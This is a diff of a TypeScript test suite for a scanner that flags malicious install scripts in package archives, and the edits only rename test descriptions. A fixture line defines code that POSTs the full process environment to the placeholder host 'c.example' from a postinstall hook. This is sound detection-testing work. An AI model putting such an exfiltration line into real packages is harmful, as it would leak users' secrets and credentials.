@@ -28,7 +28,7 @@ function tar(files: Readonly<Record<string, string>>): Buffer {
 const steals = `require('https').request({ host: 'c.example', method: 'POST' }).end(JSON.stringify(process.env))\n`
 
 describe('a package that lies there as an archive', () => {
-  test('is judged with what it starts at install; findings stand at the archive and name the file', async () => {
+  test('is checked for install scripts; findings are located at the archive and name the file', async () => {
     const archive = gzipSync(
       tar({
         'package/package.json': JSON.stringify({ name: 'x', scripts: { postinstall: 'node run.js' } }),
@@ -60,7 +60,7 @@ describe('a package that lies there as an archive', () => {
     expect(observations).toMatchObject([{ severity: 'CRITICAL', metadata: { entry: 'x-1.0/setup.py' } }])
   })
 
-  test('is a gap where it cannot be opened', async () => {
+  test('is a coverage gap if it cannot be opened', async () => {
     const { observations, gaps } = await scan({
       'a.tgz': 'not a supported archive',
       'b.whl': new Uint8Array([0x50, 0x4b, 3, 4, 0, 0]),
@@ -69,7 +69,7 @@ describe('a package that lies there as an archive', () => {
     expect(gaps.map(({ filePath }) => filePath)).toEqual(['a.tgz', 'b.whl'])
   })
 
-  test('is none without a sign', async () => {
+  test('without suspicious code is not reported', async () => {
     const archive = gzipSync(
       tar({ 'package/package.json': '{"name":"x"}', 'package/index.js': 'module.exports = 1\n' }),
     )
